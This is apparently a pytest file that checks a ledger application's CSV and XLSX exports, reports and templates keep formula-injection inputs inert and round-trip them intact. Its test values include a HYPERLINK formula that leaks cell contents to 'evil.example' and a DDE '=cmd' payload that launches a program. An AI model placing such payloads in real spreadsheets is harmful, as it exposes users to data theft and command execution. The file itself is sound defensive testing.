"""Exports and reports write text that a spreadsheet would run as inert text.

Every path that writes a sheet — the ledger export (XLSX), reports (CSV and
XLSX), the templates — is given values that start with ``=``, ``+``, ``-``, ``@``,
a tab or a carriage return, alongside ordinary text and numbers: XLSX cells are
string cells (never ``<f>`` formulas), CSV cells that would run get an apostrophe,
numbers stay numbers, and importing what was exported gives back exactly what
went in.
"""

from __future__ import annotations

import base64
import csv
import io
import re
import zipfile
from collections import Counter
from collections.abc import AsyncIterator
from typing import Any

import httpx
import openpyxl
import pytest
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from app import reports
from app.demo import seed_saved_queries
from app.settings import Settings
from app.system import system_context
from db import counters
from db.models import Household
from resolvers.common import cells
from resolvers.ledgers.sheets import COLUMNS
from tests.helpers import Tree, global_id, gql, make_tree
from tests.schema.ledger_api import item_input, record_item

VALUES = [
    '=HYPERLINK("http://evil.example/?q="&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''+twice",
    "#N/A",
    "a_x0041_b",
    "line\r\nbreak",
    "bell\x07",
    "-5",
    "普通文本",
]
RUNS = re.compile(r"^[=+\-@\t\r]")


def runs(cell: str) -> bool:
    """Whether a spreadsheet would run a CSV cell: it starts so, and is not a plain number."""
    return RUNS.match(cell) is not None and re.fullmatch(r"-\d+", cell) is None


ITEMS = """query { area(code: "519902101001") {
  ledgerItems(first: 100) { edges { node { title description } } } } }"""
IMPORT = """mutation ($i: ImportLedgerInput!) { importLedger(input: $i) {
  imported rowErrors { row column message } errors { __typename } } }"""


@pytest.fixture
async def tree(sessionmaker: async_sessionmaker[AsyncSession]) -> Tree:
    return await make_tree(sessionmaker)


def sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        names = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
        return "".join(book.read(name).decode() for name in names)


def assert_no_formulas(content: bytes) -> None:
    xml = sheet_xml(content)
    assert not re.search(r"<f[ >]", xml), "a cell is a formula"
    assert 't="e"' not in xml and 't="str"' not in xml  # no error or formula-result cells


def read_xlsx(content: bytes) -> list[list[Any]]:
    book = openpyxl.load_workbook(io.BytesIO(content), read_only=True)
    try:
        return [
            [cells.from_xlsx(v) if isinstance(v, str) else v for v in row]
            for row in book.worksheets[0].iter_rows(values_only=True)
        ]
    finally:
        book.close()


async def titles(client: httpx.AsyncClient) -> Counter[tuple[str, str]]:
    edges = (await gql(client, ITEMS))["area"]["ledgerItems"]["edges"]
    return Counter((e["node"]["title"], e["node"]["description"]) for e in edges)


async def import_content(
    client: httpx.AsyncClient, tree: Tree, content: bytes, name: str
) -> dict[str, Any]:
    values = {
        "villageId": global_id("Area", tree.village_id),
        "fileName": name,
        "content": base64.b64encode(content).decode(),
        "idempotencyKey": f"cells-{name}",
    }
    result: dict[str, Any] = (await gql(client, IMPORT, {"i": values}))["importLedger"]
    return result


async def test_the_ledger_export_is_inert_and_round_trips(
    client: httpx.AsyncClient, tree: Tree
) -> None:
    for value in VALUES:
        payload = await record_item(client, item_input(tree, title=value, description=value))
        assert payload["errors"] == [], (value, payload)
    recorded = await titles(client)
    assert recorded == Counter((v, v) for v in VALUES)

    exported = await client.get("/ledgers/export.xlsx", params={"area": "519902101001"})
    assert exported.status_code == 200, exported.text
    assert_no_formulas(exported.content)
    _header, *rows = read_xlsx(exported.content)
    title = [column.key for column in COLUMNS].index("title")
    assert sorted(r[title] for r in rows) == sorted(VALUES)

    result = await import_content(client, tree, exported.content, "export.xlsx")
    assert result == {"imported": len(VALUES), "rowErrors": [], "errors": []}
    assert await titles(client) == Counter({key: 2 for key in recorded})


async def test_a_csv_sheet_written_inert_imports_as_written(
    client: httpx.AsyncClient, tree: Tree
) -> None:
    good = {
        "ledger": "livelihood",
        "category": "water",
        "area_code": "519902101001",
        "received_on": "2014-01-23",
        "received_by": "李四",
    }
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow([column.key for column in COLUMNS])
    for value in VALUES:
        values = good | {"title": value, "description": value}
        writer.writerow([cells.csv_value(values.get(column.key, "")) for column in COLUMNS])
    text = buffer.getvalue()
    assert not any(runs(cell) for row in csv.reader(io.StringIO(text)) for cell in row)
    result = await import_content(client, tree, text.encode("utf-8"), "inert.csv")
    assert result == {"imported": len(VALUES), "rowErrors": [], "errors": []}
    assert await titles(client) == Counter((v, v) for v in VALUES)


@pytest.fixture
async def households(
    sessionmaker: async_sessionmaker[AsyncSession], settings: Settings, tree: Tree
) -> list[tuple[str, str, int]]:
    """One household per value: its number, head's name and address; members 2, 3, …"""
    made = [(f"{n:03d}", value, n + 2) for n, value in enumerate(VALUES, start=2)]
    async with sessionmaker.begin() as session:
        session.add_all(
            Household(
                group_id=tree.group_id, number=number, head_name=value, address=value, members=m
            )
            for number, value, m in made
        )
        await session.flush()
        await counters.rebuild(session)
    async with system_context(settings) as context:
        assert not any(pushed.errors for pushed in await seed_saved_queries(context))
    return made


async def test_reports_are_inert_and_keep_numbers(
    client: httpx.AsyncClient, households: list[tuple[str, str, int]]
) -> None:
    expected = {number: (value, members) for number, value, members in households}
    params = {"area": "519902101001"}

    response = await client.get("/reports/households.csv", params=params)
    assert response.status_code == 200, response.text
    header, *rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    at = {name: header.index(f"area.households.{name}") for name in ("number", "headName")}
    members, address = (
        header.index("area.households.members"),
        header.index("area.households.address"),
    )
    seen = 0
    for row in rows:
        if row[at["number"]] not in expected:
            continue
        value, count = expected[row[at["number"]]]
        for cell in (row[at["headName"]], row[address]):
            assert not runs(cell), cell
            assert cells.from_csv(cell) == value
        assert row[members] == str(count)  # a number, no apostrophe
        seen += 1
    assert seen == len(VALUES)

    response = await client.get("/reports/households.xlsx", params=params)
    assert response.status_code == 200, response.text
    assert_no_formulas(response.content)
    header, *table = read_xlsx(response.content)
    by_number = {r[header.index("area.households.number")]: r for r in table}
    for number, (value, count) in expected.items():
        got = by_number[number]
        assert got[header.index("area.households.headName")] == value
        assert got[header.index("area.households.address")] == value
        assert got[header.index("area.households.members")] == count  # an int cell


async def _pages(rows: list[list[object]]) -> AsyncIterator[list[list[object]]]:
    yield rows


async def test_report_writers_keep_real_numbers_numbers() -> None:
    """Negative numbers from a query are numbers, not text and not guarded."""
    row: list[object] = [-5, -2.5, 0, True, None, "-5", "-1+1", "=1"]
    text = reports._csv_text([row])
    assert next(csv.reader(io.StringIO(text))) == [
        "-5",
        "-2.5",
        "0",
        "True",
        "",
        "-5",
        "'-1+1",
        "'=1",
    ]
    file = await reports._xlsx_file([f"c{i}" for i in range(len(row))], _pages([row]))
    content = file.read()
    file.close()
    assert_no_formulas(content)
    assert read_xlsx(content)[1] == [-5, -2.5, 0, True, None, "-5", "-1+1", "=1"]


async def test_templates_hold_no_formulas(client: httpx.AsyncClient, tree: Tree) -> None:
    template = await client.get("/ledgers/template.xlsx")
    assert template.status_code == 200
    assert_no_formulas(template.content)
    header = (await client.get("/ledgers/template.csv")).content.decode("utf-8-sig")
    assert not any(runs(cell) for cell in next(csv.reader(io.StringIO(header))))


def test_csv_guard_and_unguard_are_inverse() -> None:
    for value in [*VALUES, "", "'", "''", "'-5", "+5", "-.5e3"]:
        assert cells.from_csv(str(cells.csv_value(value))) == value
